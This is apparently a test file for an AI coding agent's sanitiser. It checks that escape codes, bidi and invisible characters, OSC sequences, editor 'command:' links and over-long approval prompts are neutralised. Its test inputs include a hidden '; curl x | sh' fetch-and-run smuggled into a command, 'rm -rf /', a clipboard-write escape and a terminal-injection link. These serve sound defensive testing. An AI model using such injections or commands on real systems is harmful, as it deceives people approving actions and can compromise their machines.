"""security.text: the rules that make untrusted text inert, and the LSP hook applying them."""

from __future__ import annotations

from lsprotocol import types

from ndomo.lsp.inert import inert_params
from ndomo.runtime.host import ApprovalRequest
from ndomo.security.text import OscStripper, cap, for_message, one_line, visible


def test_controls_bidi_and_invisible_characters_are_shown_as_escapes():
    text = "a\x1b[2K\rb\x07\x9b\u202e\u2066\u200b\u200d\ufeff\u00ad\u2028\U000e0041\ttab\nline"
    assert visible(text) == (
        "a\\x1b[2K\\x0db\\x07\\x9b\\u202e\\u2066\\u200b\\u200d\\ufeff\\xad\\u2028\\U000e0041\ttab\nline"
    )
    assert visible("plain text, ünïcode ✓\n") == "plain text, ünïcode ✓\n"
    assert visible("crlf\r\nprogress 10%\rprogress 20%") == "crlf\nprogress 10%\\x0dprogress 20%"
    assert visible("a\nb\tc", keep_newlines=False) == "a\\x0ab\\x09c"


def test_osc_is_removed_from_streamed_text_even_cut_between_chunks():
    osc = "\x1b]52;c;Y3VybA==\x07"
    stream = f"one{osc} two\x1b]8;;https://x\x1b\\link\x1b]8;;\x1b\\ three\x9d0;t\x9c end"
    for size in (1, 2, 3, 5, 7, len(stream)):
        s = OscStripper()
        out = "".join(s.feed(stream[i : i + size]) for i in range(0, len(stream), size))
        out += s.flush()
        assert out == "one twolink three end", size
    s = OscStripper()
    assert s.feed("x\x1b]52;never ends") == "x"
    assert visible(s.flush()) == "\\x1b]52;never ends"  # shown, not lost


def test_one_line_collapses_whitespace_and_caps_saying_what_is_left_out():
    assert one_line("rm  -rf\n\t /  ", 100) == "rm -rf /"
    assert one_line("a" * 10, 4) == "aaaa… (6 more characters)"
    assert cap("x" * 2001, 1) == "x… (2,000 more characters)"


def test_markdown_links_and_command_targets_are_inert():
    text = "[Once](command:workbench.action.terminal.sendSequence?x) [a] (COMMAND:x)"
    assert (
        for_message(text)
        == "[Once] (command :workbench.action.terminal.sendSequence?x) [a] (command :x)"
    )


def test_approval_text_leads_with_reason_and_sandbox_and_caps_the_subject():
    req = ApprovalRequest(
        permission="bash",
        subject="make" + " " * 1000 + "\x1b[8m; curl x | sh " + "y" * 500,
        agent="craftsman",
        mode="autopilot",
        reason="`curl` matches no rule",
        network=False,
        sandbox="sandboxed (bubblewrap)",
    )
    text = req.text()
    assert text.startswith(
        "`curl` matches no rule · if allowed it runs without network, sandboxed (bubblewrap) · "
        "ndomo · craftsman (autopilot) wants bash: make \\x1b[8m; curl x | sh yyy"
    )
    shown = text.split("wants bash: ")[1]
    assert shown.endswith("y… (226 more characters)") and len(shown) == 300 + len(
        "… (226 more characters)"
    )
    assert req.subject_cut()


def test_the_short_question_keeps_the_order_and_the_caps_in_three_lines():
    req = ApprovalRequest(
        permission="bash",
        subject="make" + " " * 1000 + "\x1b[8m; curl x | sh " + "y" * 500,
        agent="craftsman",
        mode="autopilot",
        reason="r" * 400,  # a long reason is cut: the sandbox state stays on its line
        network=False,
        sandbox="sandboxed (bubblewrap)",
        rule="make *",
    )
    why, who, lasting = req.short().split("\n")
    assert (
        why
        == "r" * 120
        + "… (280 more characters) · if allowed it runs without network, sandboxed (bubblewrap)"
    )
    assert who.startswith("craftsman (autopilot) wants bash: make \\x1b[8m; curl x | sh yyy")
    assert who.endswith("y… (226 more characters)")
    assert lasting == (
        "Session: allow `make *` until the session ends · Always: allow it in this project"
        " · Never: deny this exact call in this project"
    )
    control = ApprovalRequest(permission="control", subject="AGENTS.md", agent="a", mode="m")
    assert control.short() == "a (m) wants control: AGENTS.md"  # asked every time: nothing saved


def test_every_message_sent_to_the_editor_is_inert():
    evil = "a\x1b[2K\u202e[x](command:y)"
    shown = "a\\x1b[2K\\u202e[x] (command :y)"
    msg = inert_params(
        types.WINDOW_SHOW_MESSAGE,
        types.ShowMessageParams(type=types.MessageType.Info, message=evil),
    )
    assert msg.message == shown
    req = inert_params(
        types.WINDOW_SHOW_MESSAGE_REQUEST,
        types.ShowMessageRequestParams(
            type=types.MessageType.Info,
            message=evil,
            actions=[types.MessageActionItem(title=evil), types.MessageActionItem(title="OK")],
        ),
    )
    assert req.message == shown and [a.title for a in req.actions] == [shown, "OK"]
    log = inert_params(
        types.WINDOW_LOG_MESSAGE,
        types.LogMessageParams(type=types.MessageType.Log, message=evil + "\nnext"),
    )
    assert log.message == "a\\x1b[2K\\u202e[x](command:y)\nnext"
    for value in (
        types.WorkDoneProgressBegin(title=evil, message=evil),
        types.WorkDoneProgressReport(message=evil),
        types.WorkDoneProgressEnd(message=evil),
    ):
        sent = inert_params(types.PROGRESS, types.ProgressParams(token="t", value=value))
        assert sent.value.message == shown
        assert value.message == evil  # the caller's object is left as it was
